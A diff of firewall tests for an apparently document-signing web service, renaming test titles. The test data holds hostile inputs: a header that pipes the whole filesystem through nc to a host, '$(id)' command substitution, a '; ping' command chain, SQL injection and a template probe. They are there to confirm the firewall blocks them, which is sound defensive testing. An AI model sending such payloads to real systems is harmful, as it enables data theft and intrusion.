@@ -33,7 +33,7 @@ describe('blocks attacks with 403, and names the rule and the field', () => {
     expectError(await app.key.get(address), 'REQUEST_BLOCKED', { ruleId, field });
   });
 
-  test('blocks a command in a header', async () => {
+  test('blocks a shell command in a header', async () => {
     const answer = await app.key.get(path, { headers: { 'x-client-version': '; tar cf - / | nc host 80' } });
     expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'command-chain', field: 'header.x-client-version' });
   });
@@ -41,7 +41,7 @@ describe('blocks attacks with 403, and names the rule and the field', () => {
   test.each([
     ['an e-mail address', { signers: [{ name: 'Ada', email: "ada'||(select 1)||'@example.com" }] }, 'sql-statement'],
     ['an identifier', { signers: [], fields: [{ kind: 'text', page: 1, signer: '$(id)' }] }, 'command-substitution'],
-  ])('blocks %s in JSON', async (_, body, ruleId) => {
+  ])('blocks %s in a JSON body', async (_, body, ruleId) => {
     const { id } = await app.draft();
     const answer = await app.key.send('POST', `/api/documents/${id}/send-for-signing`, { body });
     expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body\./) });
@@ -58,7 +58,7 @@ describe('blocks attacks with 403, and names the rule and the field', () => {
     expectError(await app.anyone.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
   });
 
-  test('blocks a value, a file name and a part name of a form', async () => {
+  test("blocks an attack in a form's value, file name or part name", async () => {
     const send = (body: Buffer) => app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
     const file = { name: 'file', filename: 'a.pdf', content: makePdf() };
     expectError(await send(pdfUpload(makePdf(), { title: SQL })), 'REQUEST_BLOCKED', {
@@ -90,7 +90,7 @@ describe('blocks attacks with 403, and names the rule and the field', () => {
   });
 });
 
-describe('a body sent to an unknown address', () => {
+describe('a body sent to an unknown path', () => {
   const form = { 'content-type': 'application/x-www-form-urlencoded' };
   const xml = { 'content-type': 'application/xml' };
 
@@ -105,7 +105,7 @@ describe('a body sent to an unknown address', () => {
     ],
     ['JSON with an error', '{"cmd": "; ping 10.0.0.1", ', {}, 'command-chain'],
     ['JSON at a known address with another method', JSON.stringify({ a: '$(id)' }), {}, 'command-substitution'],
-  ])('is blocked: %s', async (kind, text, headers, ruleId) => {
+  ])('blocks a body sent to an unknown path: %s', async (kind, text, headers, ruleId) => {
     const address = kind.includes('known') ? '/api/documents/paginated' : '/xmlrpc';
     const method = kind.includes('known') ? 'PUT' : 'POST';
     const type = { 'content-type': 'application/json', ...headers };
@@ -113,7 +113,7 @@ describe('a body sent to an unknown address', () => {
     expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body/) });
   });
 
-  test('returns 404 for a harmless body of any length and type', async () => {
+  test('returns 404 for a harmless body of any length and type sent to an unknown path', async () => {
     for (const [body, type] of [
       [Buffer.from('{"name":"Ada"}'), 'application/json'],
       [Buffer.from('name=Ada&city=London'), 'application/x-www-form-urlencoded'],
@@ -123,7 +123,7 @@ describe('a body sent to an unknown address', () => {
   });
 });
 
-test('does not inspect texts that are longer than the contract allows', async () => {
+test('does not inspect a text that is longer than its field allows', async () => {
   const body = { email: '\r\n'.repeat(500_000), password: 'a password of somebody' };
   const began = process.cpuUsage();
   const answer = await app.anyone.send('POST', '/api/auth/login', { body });
@@ -132,7 +132,7 @@ test('does not inspect texts that are longer than the contract allows', async ()
   expect(user / 1000, 'milliseconds of CPU time, 14,000 before').toBeLessThan(1000);
 });
 
-test('rejects a form that consists only of boundaries with 422 before parsing it', async () => {
+test('rejects a form that consists only of boundaries with 422 before it is parsed', async () => {
   const body = Buffer.from(`\r\n--${BOUNDARY}`.repeat(30_000));
   const began = process.cpuUsage();
   const answer = await app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
@@ -141,7 +141,7 @@ test('rejects a form that consists only of boundaries with 422 before parsing it
   expect(user / 1000, 'milliseconds of processor time').toBeLessThan(500);
 });
 
-test('blocks more text in strict fields than any client sends', async () => {
+test('blocks a request with more text in strictly checked fields than any client sends', async () => {
   const { id } = await app.draft();
   const unknown = Array.from({ length: 9_000 }, (_, n) => `some value ${n}`);
   const answer = await app.key.send('PATCH', `/api/documents/${id}`, { body: { unknown } });
@@ -154,14 +154,14 @@ test.each([
   'alert(ed)',
   'SELECT * FROM t;',
   '{{7*7}} template note',
-])('stores the title %s, and finds it again', async (title) => {
+])('stores the title %s, and finds the document by that title', async (title) => {
   const { id } = await app.draft({ title });
   const found = await app.key.get<'listDocuments'>(`${path}?search=${encodeURIComponent(title)}`);
   expect(found.body.documents.map((one) => one.id)).toContain(id);
   expect((await app.key.get(`${path}?search=${encodeURIComponent("' OR 1=1")}`)).status).toBe(200);
 });
 
-test('accepts a hostile-looking title from template and upload to signing, verification, search and webhook', async () => {
+test('accepts a title that resembles an attack in templates, uploads, signing, verification, search and webhooks', async () => {
   const webhook = await addWebhook(app, { url: receiver.url, events: ['document.completed'] });
   const template = await makeTemplate(app.owner, { ...LEASE, name: TITLE, description: TITLE });
   expect(template.name).toBe(TITLE);
@@ -185,7 +185,7 @@ test('accepts a hostile-looking title from template and upload to signing, verif
   expect(received?.body, webhook.id).toContain(JSON.stringify(TITLE));
 });
 
-test("follows the operator's settings to detect without blocking and to allow exceptions", async () => {
+test("applies the operator's settings to detect attacks without blocking and to allow exceptions", async () => {
   const detecting = await startTestApp({ firewall: { mode: 'detect', exceptions: [] } });
   const { id: draft } = await detecting.draft();
   expect((await detecting.key.get(`${path}?search=${encodeURIComponent(SQL)}`)).status).toBe(200);
@@ -209,7 +209,7 @@ test("follows the operator's settings to detect without blocking and to allow ex
   });
 });
 
-test('rejects requests with 429 after the 101st block of an address within an hour', async () => {
+test('rejects requests with 429 after an IP address is blocked for the 101st time within an hour', async () => {
   const blocking = await startTestApp();
   const ask = () => blocking.anyone.get(`${path}?sortBy=${encodeURIComponent('$(id)')}`);
   const found = { ruleId: 'command-substitution', field: 'query.sortBy' };
